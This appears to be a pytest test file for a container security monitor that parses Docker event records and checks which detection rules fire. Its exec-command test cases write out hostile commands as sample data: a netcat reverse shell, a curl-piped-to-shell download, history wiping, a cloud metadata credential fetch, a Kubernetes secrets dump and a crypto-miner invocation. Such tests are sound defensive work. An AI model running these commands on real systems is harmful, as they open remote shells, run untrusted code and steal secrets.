"""Docker event dumps: both line formats, and hostile lines."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seawall.runtime.badinput import BadInput
from seawall.runtime.sources.docker_events import parse_record
from tests.runtime.conftest import alerts_for, rule_ids

# The shape of `docker events --format '{{json .}}'` lines (Engine API 1.4x).
BARE_EXEC = {
    "status": "exec_start: sh -c echo hi",
    "id": "3f1c" + "0" * 60,
    "from": "busybox:latest",
    "Type": "container",
    "Action": "exec_start: sh -c echo hi",
    "Actor": {
        "ID": "3f1c" + "0" * 60,
        "Attributes": {"execID": "9a" * 32, "image": "busybox:latest", "name": "web"},
    },
    "scope": "local",
    "time": 1732262400,
    "timeNano": 1732262400123456789,
}


def test_bare_engine_event_uses_the_action_text() -> None:
    event = parse_record(json.dumps(BARE_EXEC).encode(), BadInput())
    assert event is not None and event.key == ("container", "exec_start")
    (alert,) = alerts_for([event])
    assert alert.rule.id == "docker-shell-exec"
    assert alert.evidence["proc.cmdline"] == "sh -c echo hi"
    assert alert.resource.name == "web"
    assert alert.time == "2024-11-22T08:00:00.123457Z"


def test_enriched_record_carries_the_inspection() -> None:
    create = dict(BARE_EXEC, status="create", Action="create")
    inspect = {
        "Id": BARE_EXEC["id"],
        "Name": "/web",
        "Path": "sleep",
        "Args": ["1"],
        "Config": {"Image": "busybox:latest"},
        "HostConfig": {"Privileged": True, "Binds": ["/:/host:ro"], "PidMode": "host"},
    }
    line = json.dumps({"event": create, "inspect": inspect, "exec": {}}).encode()
    event = parse_record(line, BadInput())
    assert rule_ids(alerts_for([event])) == [  # type: ignore[list-item]
        "docker-host-namespaces",
        "docker-privileged-container",
        "docker-sensitive-mount",
    ]


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"{oops", "malformed JSON"),
        (b"[1,2]", "non-Docker JSON"),
        (b'{"Type": 5, "Action": "start"}', "non-Docker JSON"),
        (b'{"Type": "container"}', "non-Docker JSON"),
        (b"x" * (2 * 1024 * 1024), "oversized Docker event"),
        (b'{"Type": "container", "Actor": ' + b"[" * 100_000, "JSON beyond limits"),
    ],
)
def test_hostile_lines_are_counted(data: bytes, kind: str) -> None:
    bad = BadInput()
    assert parse_record(data, bad) is None
    assert bad.counts == {kind: 1}


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=15),
    lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=8), c, max_size=3),
    max_leaves=15,
)


@settings(max_examples=300, deadline=None)
@given(
    st.fixed_dictionaries(
        {"Type": st.sampled_from(["container", 3, None]),
         "Action": st.sampled_from(["create", "start", "exec_start: sh", "exec_create: x y", 7])},
        optional={"Actor": json_values, "time": json_values, "timeNano": json_values},
    ),
    json_values,
    json_values,
)  # fmt: skip
def test_fuzzed_records_never_escape(event: dict, inspect: object, exec_info: object) -> None:
    for doc in (event, {"event": event, "inspect": inspect, "exec": exec_info}):
        parsed = parse_record(json.dumps(doc).encode(), BadInput())
        if parsed is not None:
            alerts_for([parsed])


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("/bin/busybox sh -c echo hi", ["docker-shell-exec"]),
        ("/bin/busybox ls /", []),
        ("busybox nc -e /bin/sh 192.0.2.1 4444", ["docker-reverse-shell"]),
        ("sh -c echo hi", ["docker-shell-exec"]),
        ("cat /etc/hostname", []),
        ("sh -c curl -s http://192.0.2.9/x | sh", ["docker-download-and-run", "docker-shell-exec"]),
        ("sh -c rm -f /root/.bash_history", ["docker-history-cleared", "docker-shell-exec"]),
        ("wget http://169.254.169.254/latest/meta-data/", ["docker-cloud-metadata"]),
        ("kubectl get secrets -A", ["docker-kubernetes-api"]),
        ("nmap -sn 10.0.0.0/24", ["docker-pentest-tool"]),
        ("xmrig -o stratum+tcp://pool.supportxmr.com:3333", ["docker-mining-process"]),
        ("sshd -D", ["docker-ssh-server"]),
    ],
)
def test_exec_commands(command: str, expected: list[str]) -> None:
    line = dict(BARE_EXEC, status=f"exec_start: {command}", Action=f"exec_start: {command}")
    event = parse_record(json.dumps(line).encode(), BadInput())
    assert rule_ids(alerts_for([event])) == expected  # type: ignore[list-item]


@pytest.mark.parametrize(
    ("test", "command", "healthcheck"),
    [
        (["CMD-SHELL", "wget -qO- http://localhost/ || exit 1"],
         "/bin/sh -c wget -qO- http://localhost/ || exit 1", True),
        (["CMD", "/bin/sh", "-c", "true"], "/bin/sh -c true", True),
        (["CMD-SHELL", "true"], "/bin/sh -c id", False),
        (["NONE"], "/bin/sh -c true", False),
    ],
)  # fmt: skip
def test_health_check_execs_are_not_shells(
    test: list[str], command: str, healthcheck: bool
) -> None:
    action = f"exec_start: {command}"
    event = dict(BARE_EXEC, status=action, Action=action)
    inspect = {"Name": "/web", "Config": {"Image": "busybox", "Healthcheck": {"Test": test}}}
    line = json.dumps({"event": event, "inspect": inspect, "exec": {}}).encode()
    alerts = alerts_for([parse_record(line, BadInput())])  # type: ignore[list-item]
    assert (rule_ids(alerts) == []) is healthcheck
